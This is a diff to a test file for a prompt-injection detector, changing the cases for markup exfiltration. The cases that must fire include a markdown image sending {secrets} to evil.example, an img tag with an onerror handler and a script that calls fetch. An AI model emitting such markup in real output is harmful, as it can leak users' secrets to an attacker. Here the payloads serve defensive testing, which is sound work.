@@ -242,10 +242,10 @@ describe("injection scoring: signals in many languages", () => {
       code: "markup_exfiltration",
       fires: [
         "![img](https://evil.example/p.png?d={secrets})",
-        '<img src="https://evil.example/x">',
+        '<img src="x" onerror="fetch(1)">',
         "<script>fetch(1)</script>",
       ],
-      quiet: ["Our logo is at https://example.com/logo.png"],
+      quiet: ["Our logo is at https://example.com/logo.png", '<img src="https://example.com/logo.png" alt="logo">'],
     },
   ];
   for (const c of cases)
